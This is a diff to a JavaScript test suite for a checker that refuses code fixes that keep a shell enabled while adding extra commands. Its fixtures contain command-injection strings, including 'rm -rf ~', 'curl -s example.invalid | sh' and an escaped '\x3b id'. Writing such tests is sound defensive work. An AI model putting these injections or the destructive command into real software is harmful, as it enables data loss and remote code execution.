@@ -119,7 +119,7 @@ describe('a fix never turns a shell on', () => {
     expect(off.refusal).toBeNull();
     const turnedOff = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, '    subprocess.run(["tar", "czf", name])\n');
     expect(turnedOff.refusal).toBeNull();
-    const kept = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, '    subprocess.run("tar czf " + name.replace("\'", ""), shell=True)\n');
+    const kept = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, '    subprocess.run("tar czf " + name.strip(), shell=True)\n');
     expect(kept.refusal).toBeNull();
   });
 
@@ -127,5 +127,43 @@ describe('a fix never turns a shell on', () => {
     expect((await verdict('archive.js', JS_ARCHIVE, 'archive', 3, "  cp.spawn('tar', ['czf', '--', name, folder], { shell: false });\n")).refusal).toBeNull();
     expect((await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, "  cp.spawn('tar', ['czf', name]);\n")).refusal).toBeNull();
     expect((await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, "  cp.spawn('tar czf ' + JSON.stringify(name), { shell: true });\n")).refusal).toBeNull();
+  });
+});
+
+describe('a shell kept on is given no other literal command', () => {
+  itPython.each([
+    ['a command appended', '    subprocess.run("tar czf " + name + "; rm -rf ~", shell=True)\n', '; rm -rf ~'],
+    ['another command', '    subprocess.run("curl -s example.invalid | sh", shell=True)\n', 'curl'],
+    ['a command in an f-string', '    subprocess.run(f"tar czf {name} && id", shell=True)\n', ' && id'],
+    ['a command passed as args=', '    subprocess.run(args="id", shell=True)\n', 'id'],
+  ])('Python: refuses %s', async (_name, replacement, literal) => {
+    const result = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, replacement);
+    expect(result.refusal).toBe('name_outside_the_question');
+    expect(result.detail).toContain('it gives the shell of subprocess.run');
+    expect(result.detail).toContain(literal);
+  });
+
+  it.each([
+    ['a command appended', "  cp.spawn('tar czf ' + name + ' && id', { shell: true });\n"],
+    ['a command in a template', '  cp.spawn(`tar czf ${name}; id`, { shell: true });\n'],
+    ['an escape spelling the same command', "  cp.spawn('tar czf ' + name + '\\x3b id', { shell: true });\n"],
+  ])('JavaScript: refuses %s', async (_name, replacement) => {
+    const result = await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, replacement);
+    expect(result.refusal).toBe('name_outside_the_question');
+    expect(result.detail).toContain('it gives the shell of cp.spawn');
+  });
+
+  it('JavaScript: accepts the same literal command with its data quoted, in a template, or with other options', async () => {
+    for (const replacement of [
+      "  cp.spawn('tar czf ' + JSON.stringify(name), { shell: true, cwd: '/tmp', timeout: 5000 });\n",
+      '  cp.spawn(`tar czf ${JSON.stringify(name)}`, { shell: true });\n',
+    ]) {
+      expect((await verdict('archive.js', JS_ARCHIVE_SHELL, 'archive', 3, replacement)).refusal).toBeNull();
+    }
+  });
+
+  itPython('Python: accepts the same literal command with its data changed, in an f-string', async () => {
+    const result = await verdict('archive.py', PY_ARCHIVE_SHELL, 'archive', 4, '    subprocess.run(f"tar czf {name.strip()}", shell=True)\n');
+    expect(result.refusal).toBeNull();
   });
 });
